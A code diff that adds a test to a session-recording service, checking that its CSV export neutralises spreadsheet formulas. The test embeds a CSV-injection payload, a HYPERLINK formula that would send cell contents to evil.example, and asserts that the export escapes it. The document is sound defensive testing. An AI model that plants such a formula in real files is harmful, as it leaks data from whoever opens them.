@@ -553,6 +553,29 @@ def test_session_export_streams_jsonl_and_csv(env: Env) -> None:
     assert bad.status_code == 422
 
 
+def test_csv_export_cannot_carry_a_formula(env: Env) -> None:
+    """Recorded text is the client's: a statement may start with `-`, `=`, `@`..., and
+    a spreadsheet opening the export must show it as text, not run it."""
+    statement = '-- =HYPERLINK("http://evil.example/?"&A1)\nselect 1 as formula_probe'
+    dsn = env.gw.dsn("dev")
+    with psycopg.connect(dsn, autocommit=True, application_name="formula_probe") as conn:
+        conn.execute(statement).fetchall()
+    dev = env.api("dev")
+    deadline = time.monotonic() + 15
+    while True:
+        found = dev.get("/sessions", principal="dev", q="formula_probe")["sessions"]
+        if found or time.monotonic() > deadline:
+            break
+        time.sleep(0.2)
+    assert found, "the statement was not recorded"
+    r = dev.request("GET", f"/api/v1/sessions/{found[0]['id']}/export", params={"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    texts = [row["text"] for row in rows if "formula_probe" in row["text"]]
+    assert texts == ["'" + statement], texts
+    for row in rows:  # no cell of the export starts a formula
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
 # -- policy check -----------------------------------------------------------------------
 
 
